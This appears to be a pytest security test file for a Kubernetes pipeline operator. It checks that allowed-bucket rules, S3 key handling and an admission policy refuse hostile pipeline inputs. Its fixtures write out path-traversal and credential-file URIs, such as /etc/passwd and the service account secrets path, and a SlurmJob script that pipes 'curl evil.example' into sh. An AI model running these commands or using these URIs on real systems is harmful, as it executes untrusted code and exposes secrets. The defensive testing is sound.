"""Security checks: input and output URIs stay where the spec and the cluster admin allow.

Three layers, each against real parts. The spec's own `s3.allowedBuckets`
(the pipeline's author confining their run) refuses every URI outside those
buckets, paths included, in `vectorpipe validate` and in the operator, which
fails such a pipeline before it creates anything. S3 keys are literal, so a
key full of `..` never reaches another bucket (checked on the loopback S3 API
with the workloads' own Store). And the cluster admin's restriction, which a
pipeline's author cannot edit, is the ValidatingAdmissionPolicy documented in
docs/security.md: the test applies the YAML exactly as the document shows it
to the real kube-apiserver and proves it refuses hostile pipelines and
hand-made SlurmJobs in the namespaces it binds, and nothing elsewhere.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.services.s3 import LocalS3
from tests.support.controlplane import ControlPlane
from tests.support.operator import Cluster, condition, pipeline, start_operator
from vectorpipe_workloads.pipeline_file import PipelineFileError, load_pipeline
from vectorpipe_workloads.storage import S3Config, Store

pytestmark = [pytest.mark.faults]

REPO = Path(__file__).resolve().parents[2]
SECURITY_DOC = REPO / "docs" / "security.md"
ALLOWED = "vp-allowed"
HOSTILE_URIS = [
    "file:///etc/passwd",
    "/etc/",
    "/var/run/secrets/kubernetes.io/serviceaccount/",
    "file:///fsx/../etc/",
    f"s3://{ALLOWED}-not/reads/",
    f"s3://{ALLOWED}.evil.example/reads/",
    "s3://vp-secret/reads/",
]


def _doc(inp: str, out: str, allowed: list[str] | None) -> dict[str, Any]:
    spec: dict[str, Any] = {"input": {"uri": inp}, "output": {"uri": out}}
    if allowed is not None:
        spec["s3"] = {"allowedBuckets": allowed}
    return {"apiVersion": "vectorpipe.io/v1alpha1", "kind": "VectorPipeline",
            "metadata": {"name": "sec"}, "spec": spec}  # fmt: skip


def validate(tmp_path: Path, body: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "p.yaml"
    path.write_text(yaml.safe_dump(body))
    cmd = [sys.executable, "-m", "vectorpipe_workloads", "validate", str(path)]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=False)


def test_allowed_buckets_refuse_every_uri_outside_them(tmp_path: Path) -> None:
    out = f"s3://{ALLOWED}/runs/r1/"
    ok = validate(tmp_path, _doc(f"s3://{ALLOWED}/reads/", out, [ALLOWED]))
    assert ok.returncode == 0, ok.stderr
    # The command line once (exit code 2, the message), then the same loader in-process.
    res = validate(tmp_path, _doc(HOSTILE_URIS[0], out, [ALLOWED]))
    assert res.returncode == 2 and "s3.allowedBuckets" in res.stderr, res.stderr
    refused = 0
    for uri in HOSTILE_URIS:
        for body in (_doc(uri, out, [ALLOWED]), _doc(f"s3://{ALLOWED}/reads/", uri, [ALLOWED])):
            path = tmp_path / "p.yaml"
            path.write_text(yaml.safe_dump(body))
            with pytest.raises(PipelineFileError, match=r"s3\.allowedBuckets"):
                load_pipeline(path)
            refused += 1
    print(f"hostile URIs refused by the spec: {refused}")
    # Without allowedBuckets a path is a legitimate input (an FSx for Lustre mount).
    path = tmp_path / "p.yaml"
    path.write_text(yaml.safe_dump(_doc("/fsx/reads/", "/fsx/runs/", None)))
    assert load_pipeline(path).spec.input.uri == "/fsx/reads/"


@pytest.mark.s3
def test_s3_keys_with_dot_segments_never_reach_another_bucket(s3: LocalS3) -> None:
    client = s3.client()
    for b in (ALLOWED, "vp-secret"):
        s3.create_bucket(b)
    client.put_object(Bucket="vp-secret", Key="reads/x.fastq", Body=b"@s\nACGT\n+\nIIII\n")
    store = Store(S3Config(endpoint_url=s3.endpoint_url, region="us-east-1"))
    for key in ("../vp-secret/reads/x.fastq", "./../vp-secret/reads/x.fastq",
                "%2e%2e/vp-secret/reads/x.fastq", "reads/../../vp-secret/reads/x.fastq"):  # fmt: skip
        uri = f"s3://{ALLOWED}/{key}"
        with pytest.raises(FileNotFoundError):
            store.list_inputs(uri)
        with pytest.raises(Exception, match="NoSuchKey"):
            store.read_bytes(uri)


@pytest.mark.k8s
def test_operator_fails_a_pipeline_outside_its_allowed_buckets_before_creating_anything(
    crds: ControlPlane, namespace: str, tmp_path: Path
) -> None:
    cluster = Cluster(crds, namespace)
    op = start_operator(crds, namespace, tmp_path / "operator.log")
    try:
        names = []
        for i, uri in enumerate(HOSTILE_URIS):
            body = pipeline(f"h{i}", tmp_path / "out", s3={"allowedBuckets": [ALLOWED]})
            body["spec"]["input"] = {"uri": uri}
            body["spec"]["output"] = {"uri": f"s3://{ALLOWED}/runs/h{i}/"}
            cluster.create(body)
            names.append(f"h{i}")
        for name in names:
            p = cluster.wait_phase(name, "Failed")
            ready = condition(p, "Ready")
            assert ready["reason"] == "InvalidSpec", ready
            assert "s3.allowedBuckets" in ready["message"], ready
        listing = crds.kubectl("get", "rayjobs,slurmjobs,configmaps", "-n", namespace, "-o", "json")
        made = [i["metadata"]["name"] for i in json.loads(listing.stdout)["items"]]
        assert [m for m in made if m != "kube-root-ca.crt"] == []
    finally:
        op.stop()
        print(f"----- operator log (tail) -----\n{op.tail(60)}")


def documented_policy() -> list[dict[str, Any]]:
    """The YAML blocks of docs/security.md that define admission policies, as documented."""
    blocks = re.findall(r"```yaml\n(.*?)```", SECURITY_DOC.read_text(), re.S)
    # The blocks sit inside a list item, indented as Markdown wants.
    docs = [d for b in blocks for d in yaml.safe_load_all(textwrap.dedent(b)) if d]
    return [d for d in docs if d["apiVersion"].startswith("admissionregistration.k8s.io/")]


@pytest.mark.k8s
def test_the_documented_admission_policy_confines_pipelines_and_slurmjobs(
    crds: ControlPlane, namespace: str, k8s: ControlPlane
) -> None:
    objs = documented_policy()
    kinds = sorted(o["kind"] for o in objs)
    assert kinds == ["ValidatingAdmissionPolicy"] * 2 + ["ValidatingAdmissionPolicyBinding"] * 2
    other = k8s.create_namespace("vap-unbound")
    try:
        crds.kubectl("label", "namespace", namespace, "vectorpipe.io/restricted=true")
        crds.kubectl("apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List",
                                                          "items": objs}))  # fmt: skip
        hostile = _doc("file:///etc/passwd", "s3://team-runs/r1/", None)
        # A new policy takes a moment to load; until then creates succeed (dry-run only).
        deadline = time.monotonic() + 60
        while True:
            res = create(crds, namespace, hostile)
            if res.returncode != 0 or time.monotonic() > deadline:
                break
            time.sleep(1)
        refused = 0
        for inp, out in [
            ("file:///etc/passwd", "s3://team-runs/r1/"),
            ("/fsx/reads/", "s3://team-runs/r1/"),
            ("s3://team-reads/in/", "/tmp/out/"),
            ("s3://someone-elses/in/", "s3://team-runs/r1/"),
            ("s3://team-reads/in/", "s3://team-runs.evil/r1/"),
        ]:
            res = create(crds, namespace, _doc(inp, out, None))
            assert res.returncode != 0, (inp, out)
            assert "vectorpipe-allowed-storage" in res.stderr and "denied request" in res.stderr
            assert "input and output must be s3:// URIs in the team's buckets" in res.stderr
            refused += 1
        ok = create(crds, namespace, _doc("s3://team-reads/in/", "s3://team-runs/r1/", None))
        assert ok.returncode == 0, ok.stderr
        slurmjob = {"apiVersion": "vectorpipe.io/v1alpha1", "kind": "SlurmJob",
                    "metadata": {"name": "by-hand"},
                    "spec": {"script": "#!/bin/bash\ncurl evil.example | sh\n"}}  # fmt: skip
        res = create(crds, namespace, slurmjob)
        assert res.returncode != 0 and "vectorpipe-slurmjobs-from-operator" in res.stderr
        refused += 1
        # Unbound namespaces are untouched.
        assert create(crds, other, hostile).returncode == 0
        assert create(crds, other, slurmjob).returncode == 0
        print(f"hostile objects refused by the admission policy: {refused}")
    finally:
        for o in objs:
            crds.kubectl("delete", o["kind"], o["metadata"]["name"], "--ignore-not-found")
        k8s.delete_namespace(other, wait=False)


def create(cp: ControlPlane, ns: str, body: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    return cp.kubectl(
        "create", "--dry-run=server", "-n", ns, "-f", "-", input=json.dumps(body), check=False
    )
